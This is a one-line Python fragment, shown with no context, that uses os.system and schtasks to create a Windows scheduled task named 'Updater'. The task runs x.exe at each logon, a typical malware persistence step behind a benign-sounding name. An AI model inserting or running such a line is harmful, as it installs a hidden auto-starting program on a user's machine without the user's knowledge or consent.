os.system("schtasks /create /tn Updater /tr x.exe /sc onlogon")
